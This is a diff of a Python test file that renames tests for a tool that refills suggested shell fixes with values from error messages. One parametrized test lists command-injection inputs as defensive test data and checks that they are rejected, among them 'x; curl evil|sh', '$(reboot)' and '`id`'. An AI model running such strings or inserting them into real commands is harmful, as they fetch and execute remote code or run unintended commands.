@@ -14,7 +14,7 @@ def shape(*slots: tuple[str, str], signature: bytes = b"8 bytes.", prose: bool =
     return ErrorShape("", "", text, tuple(Slot(*slot) for slot in slots), (), signature, prose, False)
 
 
-def test_names_paths_and_addresses_are_keys_and_what_changes_by_itself_is_not() -> None:
+def test_keys_of_names_paths_and_addresses_are_keys_and_what_changes_by_itself_is_not() -> None:
     asked = shape(
         ("name", " Yaml "),
         ("path", "/srv/App/Main.py:12:3"),
@@ -31,11 +31,11 @@ def test_names_paths_and_addresses_are_keys_and_what_changes_by_itself_is_not() 
     assert keys_of(asked) == ("yaml", "app/main.py", "config.ini", "etc", "https://pypi.org/simple", "localhost:5432")
 
 
-def test_what_has_no_base_name_is_a_key_as_it_is() -> None:
+def test_keys_of_what_has_no_base_name_is_a_key_as_it_is() -> None:
     assert keys_of(shape(("path", "/"), ("path", " "))) == ("/",)
 
 
-def test_digests_fit_into_sqlite_and_tell_texts_apart() -> None:
+def test_digest_digests_fit_into_sqlite_and_tell_texts_apart() -> None:
     assert digest(["a", "b"]) != digest(["ab"]) != digest(["b", "a"])
     assert digest(["\ud800"]) >= 0
     assert number(b"\xff" * 8) == 2**63 - 1
@@ -60,16 +60,16 @@ def test_digests_fit_into_sqlite_and_tell_texts_apart() -> None:
         (("url", "http://a.de/x"), ("url", "https://b.de/y"), "ping a.de", "ping b.de"),
     ],
 )
-def test_a_fix_is_refilled(slot: tuple[str, str], other: tuple[str, str], fix: str, wanted: str) -> None:
+def test_refill_a_fix_is_refilled(slot: tuple[str, str], other: tuple[str, str], fix: str, wanted: str) -> None:
     assert refill(fix, shape(slot), shape(other), other[1]) == wanted
 
 
-def test_names_may_change_places() -> None:
+def test_refill_names_may_change_places() -> None:
     lesson, asked = shape(("name", "one"), ("name", "two")), shape(("name", "two"), ("name", "three"))
     assert refill("mv one two", lesson, asked, "") == "mv two three"
 
 
-def test_a_fix_whose_name_has_no_counterpart_is_not_offered() -> None:
+def test_refill_a_fix_whose_name_has_no_counterpart_is_not_offered() -> None:
     lesson = shape(("name", "yaml"))
     other = b"another."
     assert refill("pip install yaml", lesson, shape(signature=other), "") is None
@@ -78,17 +78,17 @@ def test_a_fix_whose_name_has_no_counterpart_is_not_offered() -> None:
     assert refill("start over", lesson, shape(signature=other), "") == "start over"
 
 
-def test_an_address_without_a_port_cannot_fill_a_fix_with_one() -> None:
+def test_refill_an_address_without_a_port_cannot_fill_a_fix_with_one() -> None:
     assert refill("open 5432", shape(("address", "db:5432")), shape(("address", "redis")), "") is None
 
 
-def test_a_name_that_stands_in_the_question_stays() -> None:
+def test_refill_a_name_that_stands_in_the_question_stays() -> None:
     lesson = shape(("name", "yaml"), ("name", "app"))
     asked = shape(("name", "app"), signature=b"another.")
     assert refill("pip install yaml", lesson, asked, "cannot import YAML in app") == "pip install yaml"
 
 
-def test_a_description_changes_a_fix_by_certain_names_only() -> None:
+def test_refill_a_description_changes_a_fix_by_certain_names_only() -> None:
     lesson = shape(("name", "yaml"))
     word = shape(("name", "stops"), prose=True, text="my program stops", signature=b"another.")
     assert refill("pip install yaml", lesson, word, word.text) == "pip install yaml"
@@ -112,5 +112,5 @@ def test_no_text_breaks_a_refill(
 
 
 @pytest.mark.parametrize("name", ["x; curl evil|sh", "$(reboot)", "`id`", "a b", "-rf", "x&&y", "x>y", "'", "x\ny"])
-def test_what_a_shell_would_read_as_more_than_a_word_is_put_into_no_fix(name: str) -> None:
+def test_refill_what_a_shell_would_read_as_more_than_a_word_is_put_into_no_fix(name: str) -> None:
     assert refill("umount old", shape(("name", "old")), shape(("name", name)), "") is None
